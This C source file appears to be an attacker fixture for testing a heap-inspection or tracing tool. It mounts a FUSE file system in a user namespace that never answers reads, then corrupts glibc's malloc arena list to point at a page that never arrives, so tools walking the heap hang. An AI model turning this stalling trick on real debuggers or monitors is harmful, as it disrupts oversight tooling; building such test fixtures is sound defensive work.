// Memory that never comes: a list of malloc's leads to a page of a file system that this program serves and does not answer.
// usage: unanswered DEVICE FOLDER    DEVICE is /dev/fuse's, FOLDER where the file system is mounted, for this program alone
// ATTACKER_READY is made once it waits. Ends with 77 where a user may not mount.
#define _GNU_SOURCE
#include "ledger.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

// HEAP_MAX_SIZE and the offset of `next` in malloc_state, glibc.
static const unsigned long HEAP = 64UL << 20, NEXT = 2160;
static const size_t SIZE = 1 << 20;

static SITE void *site_attacker(size_t n) {
    void *p = malloc(n);
    KEEP(p);
    return p;
}

static int put(const char *file, const char *text) {
    int fd = open(file, O_WRONLY);
    int failed = fd < 0 || write(fd, text, strlen(text)) < 0;
    close(fd);
    return failed;
}

static int mount_own(int *device, const char *path, const char *folder) {
    char ids[2][64], options[128];
    snprintf(ids[0], sizeof ids[0], "0 %u 1", getuid());
    snprintf(ids[1], sizeof ids[1], "0 %u 1", getgid());
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || put("/proc/self/setgroups", "deny") || put("/proc/self/uid_map", ids[0]) ||
        put("/proc/self/gid_map", ids[1]) || (*device = open(path, O_RDWR)) < 0)
        return 1;
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", *device);
    return mount("unanswered", folder, "fuse", MS_NOSUID | MS_NODEV, options);
}

static void describe(struct fuse_attr *attr, unsigned long node) {
    attr->ino = node;
    attr->mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0644;
    attr->size = SIZE;
    attr->nlink = 1;
}

// The folder has every file; no read of one is answered.
static void serve(int device) {
    static char request[1 << 20], reply[4096];
    for (;;) {
        if (read(device, request, sizeof request) < 0) {
            if (errno == EINTR || errno == ENOENT)
                continue;
            return;
        }
        struct fuse_in_header *in = (void *)request;
        struct fuse_out_header *out = (void *)reply;
        void *body = out + 1;
        memset(reply, 0, sizeof reply);
        out->unique = in->unique;
        out->len = sizeof *out;
        if (in->opcode == FUSE_INIT) {
            *(struct fuse_init_out *)body = (struct fuse_init_out){.major = 7, .minor = 31, .max_write = 4096};
            out->len += sizeof(struct fuse_init_out);
        } else if (in->opcode == FUSE_GETATTR) {
            describe(&((struct fuse_attr_out *)body)->attr, in->nodeid);
            out->len += sizeof(struct fuse_attr_out);
        } else if (in->opcode == FUSE_LOOKUP) {
            *(struct fuse_entry_out *)body = (struct fuse_entry_out){.nodeid = 2, .entry_valid = 3600, .attr_valid = 3600};
            describe(&((struct fuse_entry_out *)body)->attr, 2);
            out->len += sizeof(struct fuse_entry_out);
        } else if (in->opcode == FUSE_OPEN) {
            out->len += sizeof(struct fuse_open_out);
        } else if (in->opcode == FUSE_READ || in->opcode == FUSE_FORGET || in->opcode == FUSE_INTERRUPT) {
            continue;
        } else {
            out->error = -ENOSYS;
        }
        if (write(device, reply, out->len) < 0 && errno != ENOENT)
            return;
    }
}

static char *volatile arena;

// A thread's arena is at the beginning of its heap.
static void *of_thread(void *unused) {
    (void)unused;
    arena = *(char **)((unsigned long)malloc(100) & ~(HEAP - 1));
    for (;;)
        pause();
    return NULL;
}

int main(int argc, char **argv) {
    int device = -1, file;
    char path[4096];
    pthread_t thread;
    if (argc != 3)
        return 2;
    if (mount_own(&device, argv[1], argv[2]))
        return 77;
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        serve(device);
        return 0;
    }
    close(device);
    snprintf(path, sizeof path, "%s/file", argv[2]);
    file = open(path, O_RDONLY);
    char *page = mmap(NULL, SIZE, PROT_READ, MAP_PRIVATE, file, 0);
    if (file < 0 || page == MAP_FAILED)
        return 3;
    // Whoever reads the page waits for it from now on; root's own request would be refused.
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        return *(volatile char *)page;
    }
    // /proc is to be this user's, and tracers are to be told of threads.
    prctl(PR_SET_DUMPABLE, 1);
    if (pthread_create(&thread, NULL, of_thread, NULL))
        return 4;
    while (!arena)
        usleep(1000);
    *(char **)(arena + NEXT) = page;
    ledger_touch("ATTACKER_READY");
    for (;;) {
        free(site_attacker(100));
        nanosleep(&(struct timespec){0, 1000000}, NULL);
    }
}
